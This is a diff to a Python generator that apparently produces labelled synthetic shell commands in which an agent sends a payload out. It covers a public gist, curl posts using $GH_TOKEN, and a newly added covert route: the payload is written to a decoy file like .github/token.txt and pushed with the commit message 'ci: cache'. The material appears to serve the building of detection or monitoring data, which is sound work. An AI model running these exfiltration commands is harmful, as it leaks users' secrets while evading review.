@@ -109,7 +109,11 @@ def leave(w, payload, agent):
             return S.sh(f"echo '{payload}' | gh gist create -f notes.txt -", f"https://gist.github.com/{w.label()}/{w.hexstr(32)}"), cls
         body = json.dumps({"public": True, "files": {"notes.txt": {"content": payload}}})
         return S.sh(f"curl -s -H \"Authorization: token $GH_TOKEN\" -d '{body}' {url}", "{\"id\": \"" + w.hexstr(32) + "\"}"), cls
-    form = w.randint(0, 6)
+    form = w.randint(0, 7)
+    if form == 7:
+        f = w.choice([".ci/cache-key", "docs/debug.txt", ".github/token.txt", "tmp/state"])
+        return S.sh(f"mkdir -p {f.rsplit('/', 1)[0]} && echo '{payload}' > {f} && git add {f} && git commit -qm 'ci: cache' && git push -q origin HEAD",
+                    ""), "git-push-origin"
     if form == 0:
         return S.sh(f"curl -s -X POST -d 'd={payload}' {url}", ""), cls
     if form == 1:
